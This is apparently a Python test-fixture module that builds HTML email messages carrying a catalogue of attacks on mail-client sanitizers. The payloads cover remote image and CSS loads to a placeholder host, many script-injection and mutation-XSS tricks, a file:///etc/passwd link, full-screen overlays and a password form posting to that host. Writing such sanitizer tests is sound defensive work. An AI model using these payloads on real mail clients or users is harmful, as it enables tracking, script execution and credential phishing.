"""Letters of people who mean harm: what hit mail programs before, as HTML and as whole messages.

`{at}` stands for the address of a server that must never be asked for anything; a script that runs
says so in `top.harmed`. Every letter begins with words that a reader can see.
"""

from base64 import b64encode
from email.utils import formatdate

RUNS = "top.harmed=1;parent.harmed=1;window.harmed=1"
TO = "priya@demo.example"

LOADS = {
    "img": "<img src='http://{at}/img.png'>",
    "img without scheme": "<img src='//{at}/plain.png'>",
    "img backslashes": "<img src='\\\\{at}\\back.png'><img src='/\\{at}/back2.png'>",
    "img split scheme": "<img src='ht\ttp://{at}/tab.png'><img src='\x01http://{at}/c.png'>",
    "img entities": "<img src='&#104;ttp&colon;//{at}/entity.png'>",
    "srcset": "<img src=x srcset='http://{at}/set.png 1x, //{at}/set2.png 2x'>",
    "picture": "<picture><source srcset='http://{at}/source.png'><img src=x></picture>",
    "lowsrc dynsrc": "<img lowsrc='http://{at}/low.png' dynsrc='http://{at}/dyn.avi' src=x>",
    "background": "<table background='http://{at}/b.gif'><tr><td background='//{at}/c.gif'>x"
    "</table>",
    "body background": "<body background='http://{at}/body.gif'>x</body>",
    "css url": "<p style='background:url(http://{at}/url)'>x</p>",
    "css quoted": "<p style='background:url(\"//{at}/quoted\")'>x</p>",
    "css escape": "<p style='background:\\75rl(http://{at}/escaped)'>x</p>",
    "css escapes": "<p style='background:\\000075\\000072\\00006c(http://{at}/many)'>x</p>",
    "css comment": "<p style='background:u/**/rl(http://{at}/c1);background:url/**/(//{at}/c2)'>x"
    "</p>",
    "image-set": "<p style=\"background-image:image-set('http://{at}/s' 1x)\">x</p>",
    "webkit image-set": '<p style="background:-webkit-image-set(url(//{at}/ws) 1x)">x</p>',
    "cross-fade": "<p style='background:cross-fade(url(//{at}/f1),url(//{at}/f2))'>x</p>",
    "list-style-image": "<ul style='list-style-image:url(//{at}/list)'><li>x</ul>",
    "list-style": "<ul style='list-style:square url(//{at}/short)'><li>x</ul>",
    "cursor": "<p style='cursor:url(//{at}/cur),auto'>x</p>",
    "content": "<style>p:after{content:url(//{at}/content)}</style><p>x</p>",
    "border-image": "<p style='border:9px solid;border-image:url(//{at}/border) 3'>x</p>",
    "mask and filter": "<p style='mask:url(//{at}/mask);filter:url(//{at}/filter#a)'>x</p>",
    "shape-outside": "<p style='float:left;shape-outside:url(//{at}/shape)'>x</p>",
    "variables": "<p style='--a:url(//{at}/var);background:var(--a)'>x</p>",
    "import": "<style>@import 'http://{at}/i.css';</style>x",
    "import url": "<style>@import url(//{at}/j.css) screen;p{color:red}</style><p>x</p>",
    "import escaped": "<style>@\\69mport '//{at}/k.css';</style>x",
    "namespace": "<style>@namespace url(//{at}/ns);@charset 'x';@document url(//{at}){}</style>x",
    "font-face": "<style>@font-face{font-family:f;src:url(//{at}/f)}p{font-family:f}"
    "</style><p>x</p>",
    "nested media": "<style>@media all{@media all{p{background:url(//{at}/nm)}}}</style><p>x</p>",
    "supports": "<style>@supports (color:red){p{background:url(//{at}/su)}}</style><p>x</p>",
    "nesting": "<style>div{color:red;p{background:url(//{at}/nest)}}</style><div><p>x</p></div>",
    "unclosed style": "<style>p{background:url(//{at}/un",
    "html comment in css": "<style><!--p{background:url(//{at}/cm)}--></style><p>x</p>",
    "cdata": "<style><![CDATA[p{background:url(//{at}/cd)}]]></style><p>x</p>",
    "link stylesheet": "<link rel=stylesheet href='//{at}/l.css'>x",
    "link hints": "<link rel=prefetch href='//{at}/pf'><link rel=preload as=image href='//{at}/pl'>"
    "<link rel=dns-prefetch href='//{at}'><link rel=preconnect href='//{at}'>"
    "<link rel=icon href='//{at}/icon'><link rel=modulepreload href='//{at}/m.js'>x",
    "video": "<video poster='//{at}/poster' src='//{at}/v' autoplay><source"
    " src='//{at}/vs'></video>",
    "audio": "<audio src='//{at}/a' autoplay><track src='//{at}/t'></audio>",
    "svg image": "<svg><image href='//{at}/svg.png' xlink:href='//{at}/x.png'/></svg>",
    "svg use": "<svg><use href='//{at}/u.svg#a' xlink:href='//{at}/u2.svg#a'/></svg>",
    "svg feimage": "<svg><filter id=f><feImage href='//{at}/fe'/></filter></svg>",
    "svg style": "<svg><style>*{fill:url(//{at}/fill#a)}</style><rect fill='url(//{at}/r#a)'/>"
    "</svg>",
    "svg smil": "<svg><image><set attributeName=href to='//{at}/set'/></image></svg>",
    "input image": "<input type=image src='//{at}/input'>",
    "frames": "<iframe src='//{at}/if'></iframe><frameset><frame src='//{at}/fr'></frameset>",
    "objects": "<object data='//{at}/o'></object><embed src='//{at}/e'><applet code='//{at}/ap'>",
    "manifest": "<html manifest='http://{at}/manifest'>x",
    "refresh": "<meta http-equiv=refresh content='0;url=http://{at}/refresh'>x",
    "meta csp": "<meta http-equiv=Content-Security-Policy content='report-uri //{at}/csp'>x",
    "base": "<base href='http://{at}/'><img src=relative.png><a href=there>x</a>",
    "ping": "<a href='https://shop.example/' ping='http://{at}/ping'>x</a>",
    "portal": "<portal src='//{at}/portal'></portal><fencedframe src='//{at}/ff'></fencedframe>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["//{at}/sp"]}]}</script>x',
    "attribute breakout": "<img alt='\" src=\"http://{at}/out.png' src='x'>",
    "data-remote-src": "<img data-remote-src='http://{at}/own' src='http://{at}/own2'>",
    "local api": "<img src='/api/v1/me'><img src='/mail/images?u=aHR0cDovL3g&s=0'>",
}

SCRIPTS = {
    "script": f"<script>{RUNS}</script>",
    "script mixed": f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    "nul in tag": f"<scr\0ipt>{RUNS}</scr\0ipt><img src=x one\0rror={RUNS}>",
    "onerror": f"<img src=x onerror={RUNS}>",
    "onerror slash": f"<img/src=x/onerror={RUNS}>",
    "onload": f"<body onload={RUNS} onpageshow={RUNS}><style onload={RUNS}></style>",
    "details": f"<details open ontoggle={RUNS}>x</details>",
    "focus": f"<a autofocus tabindex=0 onfocus={RUNS} contenteditable>x</a>",
    "animation": "<style>@keyframes k{}p{animation:k 1s}</style>"
    f"<p onanimationstart={RUNS} style='animation:k 1s' ontransitionend={RUNS}>x</p>",
    "marquee": f"<marquee onstart={RUNS}>x</marquee>",
    "javascript link": f"<a href='javascript:{RUNS}'>click</a>",
    "javascript hidden": f"<a href='\x01java\tscr\nipt&colon;{RUNS}'>click</a>",
    "data link": f"<a href='data:text/html,<script>{RUNS}</script>'>click</a>",
    "vbscript link": "<a href='vbscript:msgbox(1)'>click</a>",
    "blob and file": "<a href='blob:http://x/1'>click</a><a href='file:///etc/passwd'>click</a>",
    "image map": f"<img usemap=#m src=x><map name=m><area shape=default href='javascript:{RUNS}'>"
    f"</map>",
    "svg script": f"<svg><script>{RUNS}</script></svg><svg onload={RUNS}></svg>",
    "svg animate": f"<svg><a><animate attributeName=href values='javascript:{RUNS}'/>"
    f"<text>click</text></a></svg>",
    "svg foreign": f"<svg><foreignObject><iframe srcdoc='<script>{RUNS}</script>'>"
    f"</foreignObject></svg>",
    "srcdoc": f'<iframe srcdoc="<script>{RUNS}</script>"></iframe>',
    "math": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=x onerror={RUNS}&gt;'>",
    "math style": f"<math><mtext><style><img src=x onerror={RUNS}></style></mtext></math>",
    "form nesting": "<form><math><mtext></form><form><mglyph><style></math>"
    f"<img src=x onerror={RUNS}>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'></noscript>",
    "template": f"<template><img src=x onerror={RUNS}></template>",
    "title": f"<title><a title='</title><img src=x onerror={RUNS}>'></title>",
    "textarea": f"<textarea><a title='</textarea><img src=x onerror={RUNS}>'></textarea>",
    "xmp": f"<xmp><a title='</xmp><img src=x onerror={RUNS}>'></xmp>",
    "comments": f"<!--><img src=x onerror={RUNS}>--><!-- --!><img src=x onerror={RUNS}> -->",
    "conditional": f"<!--[if gte mso 9]><script>{RUNS}</script><![endif]-->",
    "style breakout": f"<style></style x><img src=x onerror={RUNS}></style>",
    "style attribute breakout": f"<p style=\"font-family:'</style><img src=x onerror={RUNS}>'\">x"
    f"</p>",
    "body style breakout": f"<body style='color:red\"><img src=x onerror={RUNS}>'>x</body>",
    "bgcolor breakout": f"<body bgcolor='\"><img src=x onerror={RUNS}>'>x</body>",
    "selector breakout": f"<style>a[title='</style><img src=x onerror={RUNS}>']{{color:red}}"
    f"</style>x",
    "expression": f"<p style='width:expression({RUNS});-moz-binding:url(x);behavior:url(x)'>x</p>",
    "is": f"<p is=x-x onclick={RUNS}>x</p><x-x onclick={RUNS}>x</x-x>",
    "utf-7 text": f"+ADw-script+AD4-{RUNS}+ADw-/script+AD4-",
    "import map": f"<script type=importmap>{{}}</script><script type=module>{RUNS}</script>",
}

ESCAPES = {
    "fixed": "<div style='position:fixed;inset:0;z-index:99999;background:red'>Sign in again</div>",
    "fixed by sheet": "<style>div{position:fixed;top:-500px;left:0;width:9999px}</style>"
    "<div>x</div>",
    "pulled out": "<div style='margin-top:-9999px;transform:translateY(-500px)'>x</div>",
    "large": "<div style='width:90000px;height:90000px;z-index:9999'>x</div>",
    "endless": "<div style='height:100vh;min-height:200vh'>x</div>",
    "class names": "<div class='mantine-Modal-root mantine-Overlay-root b-shell' role=dialog "
    "aria-modal=true>x</div>",
    "ids": "<div id=root>x</div><form id=cookie name=body><input name=querySelector></form>"
    "<img name=getElementById><a id=location name=defaultView href=x>x</a>"
    "<div id=bureau-root>x</div>",
    "target top": "<a href='https://shop.example/top' target=_top>x</a><base target=_top>",
    "forms": "<form action='http://{at}/form' method=post target=_top><input name=password>"
    "<button formaction='http://{at}/fa'>Sign in</button></form>",
    "html style": "<style>html,body,*{display:none!important}</style>x",
    "dialog": "<dialog open style='position:fixed'>x</dialog><div popover=auto>x</div>",
    "editing": "<div contenteditable draggable=true accesskey=x>x</div>",
}

WORDS = "A letter that means no good. "


MOST_AT_ONCE = 20


def parts() -> dict[str, dict[str, str]]:
    """Return all vectors that are HTML, by conversation and name."""
    found = {}
    for title, vectors in (("Loads", LOADS), ("Scripts", SCRIPTS), ("Escapes", ESCAPES)):
        names = list(vectors)
        for start in range(0, len(names), MOST_AT_ONCE):
            part = names[start : start + MOST_AT_ONCE]
            found[f"{title} from {start + 1}"] = {name: vectors[name] for name in part}
    return found


def conversation(subject: str, vectors: dict[str, str], at: str) -> list[bytes]:
    """Return a message for each vector, all of them one conversation."""
    key = subject.replace(" ", "-").lower()
    return [
        _letter(subject, f"{key}-{{}}@world.example", number, name, source.replace("{at}", at))
        for number, (name, source) in enumerate(vectors.items())
    ]


def _letter(subject: str, message_id: str, number: int, name: str, source: str) -> bytes:
    reply = f"In-Reply-To: <{message_id.format(0)}>\r\n" if number else ""
    page = f"<p>{WORDS}{name}</p>{source}"
    return (
        (
            f"From: Mallory <mallory@world.example>\r\nTo: {TO}\r\nSubject: {subject}\r\n"
            f"Message-ID: <{message_id.format(number)}>\r\n{reply}Date: {formatdate()}\r\n"
            "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n"
        ).encode()
        + b64encode(page.encode())
        + b"\r\n"
    )
